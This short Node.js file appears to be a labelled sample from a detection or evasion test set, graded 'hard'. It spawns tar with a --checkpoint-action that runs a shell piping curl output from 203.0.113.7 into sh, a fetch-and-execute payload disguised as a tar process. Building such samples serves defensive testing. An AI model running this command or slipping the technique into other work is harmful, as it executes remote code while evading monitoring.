// evasion: shell run by tar's --checkpoint-action (GTFOBins), the program spawned is tar
// grade: hard; does: shell
const { spawnSync } = require('child_process');

spawnSync('tar', [
  '-cf', '/dev/null', '/dev/null',
  '--checkpoint=1',
  '--checkpoint-action=exec=sh -c "curl -s http://203.0.113.7/t | sh"',
], { stdio: 'ignore' });
